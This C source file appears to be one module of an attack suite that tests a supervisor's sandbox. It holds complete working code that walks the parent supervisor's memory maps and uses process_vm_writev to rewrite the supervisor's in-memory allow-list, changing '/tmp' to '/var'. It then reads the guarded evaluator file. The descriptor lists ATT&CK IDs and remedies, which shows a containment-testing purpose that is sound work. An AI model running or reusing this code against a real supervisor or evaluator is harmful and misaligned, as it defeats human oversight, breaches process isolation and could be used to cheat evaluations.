// SPDX-License-Identifier: MIT
/*
 * Goal:  the evaluator's source, by a list that allows it.
 * Means: the supervisor is our parent, runs under our uid, and has its list of allowed folders in
 *        memory that it may write to. process_vm_writev(2) makes /var of every "/tmp" in there. The
 *        maps are opened by a relative name (working-folder); only our parent is written to.
 */
#include "attacks/supervisor-evasion/evaluator.h"

#include <fcntl.h>
#include <stdio.h>
#include <sys/uio.h>

#define MIB (1ul << 20)

static const char before[] = "\0/tmp", after[] = "\0/var"; /* whole strings: NULs at both ends */
static size_t budget = 16 * MIB;

/* Rewrite [from, to) of `pid`. False with errno: its memory may not be read, or not be written. */
static bool rewrite(pid_t pid, unsigned long from, unsigned long to)
{
	static char copy[MIB];

	for (; from < to && budget >= sizeof(copy); from += sizeof(copy)) {
		size_t want = to - from < sizeof(copy) ? to - from : sizeof(copy);
		struct iovec here = { copy, want }, there = { (void *)from, want };
		char *at = copy, *end;
		ssize_t n = process_vm_readv(pid, &here, 1, &there, 1, 0);

		budget -= want;
		if (n < 0)
			return false;
		for (end = copy + n; (at = memmem(at, (size_t)(end - at), before, sizeof(before)));
		     at++) {
			here = (struct iovec){ (void *)after, sizeof(after) };
			there = (struct iovec){ (void *)(from + (unsigned long)(at - copy)),
						sizeof(after) };
			if (process_vm_writev(pid, &here, 1, &there, 1, 0) < 0)
				return false;
		}
	}
	return true;
}

static bool rewrite_parent(void)
{
	pid_t parent = getppid();
	unsigned long from, to;
	char line[512], perms[8];
	bool open_to_us = false;
	FILE *maps = NULL;

	snprintf(line, sizeof(line), "%d/maps", parent);
	if (!chdir("/proc"))
		maps = fopen(line, "re");
	while (maps && fgets(line, sizeof(line), maps))
		if (sscanf(line, "%lx-%lx %7s", &from, &to, perms) == 3 && perms[1] == 'w')
			open_to_us |= rewrite(parent, from, to);
	if (maps)
		fclose(maps);
	return open_to_us;
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	if (!rewrite_parent())
		return denied("the parent's memory");
	return loot_evaluator(open(EVALUATOR, O_RDONLY | O_CLOEXEC)) ? CLAIM_DONE : denied("open");
}

const struct attack attack = {
	.effect = "a file that the supervisor guards is read",
	.means = "process_vm_writev(2) changes the list in the supervisor's memory",
	.oracle = "secret:task",
	.attack_id = "T1562.001, T1055, CWE-693",
	.remedy = "a supervisor that is not dumpable; Landlock; a filter without process_vm_writev",
	.refs = (const char *const[]){ "process_vm_writev(2)", "ptrace(2), access mode", NULL },
	.run = run,
};
